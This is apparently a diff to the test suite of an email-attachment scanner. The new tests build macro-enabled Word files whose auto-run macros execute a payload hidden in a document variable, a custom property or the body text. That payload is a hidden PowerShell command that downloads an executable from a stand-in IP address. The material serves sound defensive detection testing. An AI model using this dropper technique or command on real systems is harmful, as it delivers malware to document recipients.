@@ -219,7 +219,7 @@ def test_type_suffixes_and_brackets_are_not_stomping() -> None:
 
 def test_a_single_implicit_member_is_not_stomping() -> None:
     # A benign PowerPoint: `slides(1)` compiles to a call of the default member Item.
-    disassembly = "\tLd slides\n\tArgsLd Item 0x0001\n\tLitStr 0x0002 \"ok\"\n"
+    disassembly = '\tLd slides\n\tArgsLd Item 0x0001\n\tLitStr 0x0002 "ok"\n'
     source = 'Sub A()\n  Set s = slides(1)\n  MsgBox "ok"\nEnd Sub\n'
     assert vba_traits.stomped_names(disassembly, source) == ()
     # One ordinary name alone is a parser quirk, not a replaced module.
@@ -834,3 +834,60 @@ def test_lzma_parts_are_not_decompressed_in_one_unbounded_step() -> None:
     assert package.read("xl/workbook.xml") is None
     assert "xl/workbook.xml" in package.skipped
     assert package.read("[Content_Types].xml") == b"<Types/>"
+
+
+# --- payloads kept in the document, read by the macro ---------------------------------------------
+
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+_PAYLOAD = "powershell -w hidden -c iwr http://198.51.100.7/a.exe -OutFile a.exe"
+
+
+def with_parts(document: bytes, parts: dict[str, str]) -> bytes:
+    """`document` with extra package parts (doc variables, custom properties...)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(document)) as source, zipfile.ZipFile(out, "w") as target:
+        for info in source.infolist():
+            if info.filename not in parts:
+                target.writestr(info, source.read(info))
+        for name, text in parts.items():
+            target.writestr(name, text)
+    return out.getvalue()
+
+
+def doc_variable(code: str) -> bytes:
+    variable = f'<w:docVar w:name="p" w:val="{_PAYLOAD}"/>'
+    settings = f"<w:settings {_W}><w:docVars>{variable}</w:docVars></w:settings>"
+    return with_parts(
+        build_docm(build_vba_project(document_code=code)), {"word/settings.xml": settings}
+    )
+
+
+def test_a_payload_in_a_document_variable_read_by_the_macro_is_a_dropper() -> None:
+    code = 'Sub Document_Open()\n    Shell ActiveDocument.Variables("p").Value, 0\nEnd Sub\n'
+    result = scan(doc_variable(code), "invoice.docm")
+    assert "attachment.macro.autoexec_exec" in ids(result)
+    assert result.verdict.label == "malicious"
+
+
+def test_a_document_variable_the_macro_never_reads_is_not_evidence() -> None:
+    code = 'Sub Document_Open()\n    Shell "notepad.exe", 1\nEnd Sub\n'
+    result = scan(doc_variable(code), "invoice.docm")
+    assert "attachment.macro.autoexec_exec" not in ids(result)
+
+
+def test_a_payload_in_a_custom_property_or_the_body_text() -> None:
+    custom = (
+        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
+        ' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
+        f'<property name="c"><vt:lpwstr>{_PAYLOAD}</vt:lpwstr></property></Properties>'
+    )
+    by_property = (
+        'Sub AutoOpen()\n    Shell ActiveDocument.CustomDocumentProperties("c"), 0\nEnd Sub\n'
+    )
+    document = build_docm(build_vba_project(document_code=by_property))
+    assert "attachment.macro.autoexec_exec" in ids(
+        scan(with_parts(document, {"docProps/custom.xml": custom}), "a.docm")
+    )
+    by_text = "Sub AutoOpen()\n    Shell ActiveDocument.Content.Text, 0\nEnd Sub\n"
+    body = build_docm(build_vba_project(document_code=by_text), text=_PAYLOAD)
+    assert "attachment.macro.autoexec_exec" in ids(scan(body, "b.docm"))
